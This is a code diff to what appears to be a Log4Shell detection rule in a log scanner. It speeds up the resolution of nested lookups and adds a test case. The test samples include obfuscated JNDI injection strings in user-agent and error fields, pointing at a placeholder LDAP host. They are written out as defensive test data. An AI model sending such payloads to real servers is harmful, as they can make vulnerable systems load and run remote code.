@@ -43,9 +43,14 @@ def resolve_lookups(text: str) -> str:
     for _ in range(_MAX_PASSES):
         if _ANY_LOOKUP.search(text) is None:
             break
-        resolved = _CASE_LOOKUP.sub(_LETTERS, text)
-        resolved = _DEFAULT_LOOKUP.sub(_LETTERS, resolved)
-        resolved = _DATE_LOOKUP.sub(_LETTERS, resolved)
+        # Each substitution tries every "${"; one whose keyword is absent cannot match.
+        resolved = text
+        if "lower" in resolved or "upper" in resolved:
+            resolved = _CASE_LOOKUP.sub(_LETTERS, resolved)
+        if ":-" in resolved:
+            resolved = _DEFAULT_LOOKUP.sub(_LETTERS, resolved)
+        if "date" in resolved:
+            resolved = _DATE_LOOKUP.sub(_LETTERS, resolved)
         if resolved == text:
             break
         text = resolved
@@ -74,6 +79,7 @@ class Log4ShellJndi(Rule):
             target="/", user_agent="${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"
         ),
         ErrorSample(message="File does not exist: /var/www/html/${jndi:ldap://x.example/a}"),
+        AccessSample(target="/", user_agent="${${date:'j'}${upper:n}di:ldap://x.example/a}"),
     )
     must_not_match = (
         AccessSample(target="/docs/jndi-datasource-howto"),
